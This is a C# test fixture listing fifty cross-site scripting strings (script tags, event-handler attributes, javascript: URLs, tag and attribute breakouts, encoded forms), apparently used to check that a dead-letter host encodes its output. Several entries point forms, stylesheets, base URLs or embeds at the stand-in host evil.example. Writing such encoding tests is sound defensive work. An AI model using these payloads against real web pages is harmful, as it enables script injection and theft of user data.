namespace Consumers.Tests.Host.DeadLetters;

/// <summary>Texts that a browser would run, or take for something else than text, wherever they are written without being encoded.</summary>
internal static class HostileMarkup
{
    private const string Call = "alert(1)";

    private static readonly string[] Elements =
    [
        $"<script>{Call}</script>", $"<SCRIPT>{Call}</SCRIPT>", $"<scr\0ipt>{Call}</script>", $"<script\n>{Call}</script\n>", $"<svg><script>{Call}</script></svg>", $"<svg onload={Call}>", $"<svg/onload={Call}//",
        $"<img src=x onerror={Call}>", $"<img/src=x/onerror={Call}>", $"<image href=x onerror={Call}>", $"<body onload={Call}>", $"<details open ontoggle={Call}>", $"<video><source onerror={Call}></video>", $"<audio src=x onerror={Call}>",
        $"<iframe src=javascript:{Call}>", $"<iframe srcdoc='<script>{Call}</script>'>", "<object data=//evil.example>", "<embed src=//evil.example>", "<base href=//evil.example/>", "<meta http-equiv=refresh content='0;url=//evil.example'>",
        "<link rel=stylesheet href=//evil.example/a.css>", "<style>@import '//evil.example/a.css'</style>", "<form action=//evil.example><input name=key>", "<input formaction=//evil.example type=submit>", $"<math><mi href=javascript:{Call}>a</mi></math>",
        $"<marquee onstart={Call}>a</marquee>", $"<select autofocus onfocus={Call}>", $"<textarea autofocus onfocus={Call}>", $"<a href=javascript:{Call}>a</a>", $"<a href='java\tscript:{Call}'>a</a>", "<template><script src=//evil.example></script></template>",
        $"<noscript><p title=\"</noscript><img src=x onerror={Call}>\">", $"<xmp><p title=\"</xmp><svg onload={Call}>\">", $"<custom-element onclick={Call} tabindex=1>", "<portal src=//evil.example>",
    ];

    private static readonly string[] Breakouts =
    [
        $"\"><script>{Call}</script>", $"'><script>{Call}</script>", $"\" onmouseover={Call} x=\"", $"' onmouseover={Call} x='", $"\" autofocus onfocus={Call} x=\"", $"`onmouseover={Call}`", $"--><script>{Call}</script>", $"]]><script>{Call}</script>",
        $"</title><script>{Call}</script>", $"</textarea><script>{Call}</script>", $"</option></select><img src=x onerror={Call}>", $"</code></pre><svg onload={Call}>", $"&lt;script&gt;{Call}&lt;/script&gt;", $"&#60;script&#62;{Call}", $"\\u003cscript\\u003e{Call}",
    ];

    /// <summary>Fifty.</summary>
    public static IReadOnlyList<string> All { get; } = [.. Elements, .. Breakouts];
}
